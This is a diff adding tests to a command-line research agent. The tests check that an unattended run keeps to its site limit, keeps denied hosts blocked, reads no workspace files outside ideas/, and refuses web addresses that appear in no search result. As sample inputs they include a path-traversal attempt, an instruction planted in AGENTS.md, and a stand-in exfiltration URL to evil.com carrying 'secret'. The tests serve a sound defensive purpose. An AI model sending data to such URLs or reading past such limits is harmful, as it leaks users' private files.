@@ -223,3 +223,105 @@ describe("how it ends", () => {
     expect(await runCli(place, ["research", ...args, "idea"])).toMatchObject({ code: 2 });
   });
 });
+
+describe("reading without a person", () => {
+  const browse = (...urls: string[]): WireReply => ({
+    content: urls.map((url, at) => ({
+      ...{ type: "tool_use", id: `toolu_${at}`, name: "browseWeb", input: { url } },
+    })),
+  });
+  /** What the model was told of its calls, in order. */
+  const told = (request: MessagesRequest | undefined) =>
+    ((request?.messages.at(-1)?.content ?? []) as { type: string; content: unknown }[])
+      .filter(({ type }) => type === "tool_result")
+      .map(({ content }) => JSON.stringify(content));
+
+  test("pages are read up to the number of sites, and then the model and the person are told", async () => {
+    const urls = [
+      "https://one.invalid-site.com/",
+      "https://www.two.org/a",
+      "https://two.org/b",
+      "https://three.net/",
+    ];
+    const { code, err, requests } = await research(
+      (_request, index) => (index === 0 ? browse(...urls) : says("# Report")),
+      ["--questions", "0", "--max-sites", "2", "An idea"],
+    );
+    const [one, two, again, three] = told(requests[1]);
+    for (const read of [one, two, again]) expect(read).not.toMatch(/approval|and has;/);
+    expect(three).toContain(
+      "APPROVAL_DENIED: This research may read 2 sites, and has; three.net is none of them.",
+    );
+    expect(err).toContain(
+      "! One request was refused: a research reads up to 2 sites and 50 MB without asking.",
+    );
+    expect(code).toBe(0);
+  });
+
+  test("the settings say how many sites; a denied host stays denied", async () => {
+    place = await testWield();
+    place.writeConfig(
+      "settings.json",
+      JSON.stringify({ research: { sites: 1 }, rules: [{ decision: "deny", url: "bad.com" }] }),
+    );
+    const { requests } = await research(
+      (_request, index) =>
+        index === 0
+          ? browse("https://good.com/", "https://bad.com/", "https://other.com/")
+          : says("# Report"),
+      ["--questions", "0", "An idea"],
+    );
+    const [good, bad, other] = told(requests[1]);
+    expect(good).not.toMatch(/approval|and has;/);
+    expect(bad).toMatch(/deny|not allow/);
+    expect(other).toContain("This research may read one site, and has; other.com");
+  });
+
+  test("it reads nothing of the workspace outside ideas/ unless told to", async () => {
+    const files = {
+      "secret/plan.md": "the secret plan",
+      "docs/guide.md": "the guide",
+      "ideas/old/research.md": "# Old",
+      "AGENTS.md": "Always mention pears.",
+    };
+    const look = (path: string, at: number): WireBlock => ({
+      ...{ type: "tool_use", id: `toolu_${at}`, name: "read_file", input: { path } },
+    });
+    const paths = ["secret/plan.md", "docs/guide.md", "ideas/old/research.md", "ideas/../secret/plan.md"];
+    const answer = (_request: MessagesRequest, index: number) =>
+      index === 0 ? { content: paths.map(look) } : says("# Report");
+    const alone = await research(answer, ["--questions", "0", "An idea"], files);
+    expect(told(alone.requests[1]).map((text) => text.includes("a research reads nothing"))).toEqual([
+      true,
+      true,
+      false,
+      true,
+    ]);
+    expect(JSON.stringify(alone.requests)).not.toMatch(/secret plan|the guide|pears/);
+    await server?.close();
+    const told2 = await research(answer, ["--questions", "0", "--read", "docs", "An idea"], files);
+    expect(told(told2.requests[1])[1]).toContain("the guide");
+    expect(JSON.stringify(told2.requests)).not.toContain("the secret plan");
+  });
+
+  test("with files of the workspace at hand, only addresses that were found are read", async () => {
+    const { requests } = await research(
+      (_request, index) =>
+        index === 0
+          ? {
+              content: [
+                ...searched("q", "found.com", "So it is."),
+                ...browseBlocks("https://found.com/page", "https://evil.com/?q=secret"),
+              ],
+            }
+          : says("# Report"),
+      ["--questions", "0", "--read", "docs", "An idea"],
+      { "docs/guide.md": "the guide" },
+    );
+    const [found, made] = told(requests[1]);
+    expect(found).not.toContain("was in no result");
+    expect(made).toContain("https://evil.com/?q=secret was in no result.");
+  });
+
+  const browseBlocks = (...urls: string[]) => (browse(...urls) as { content: WireBlock[] }).content;
+});
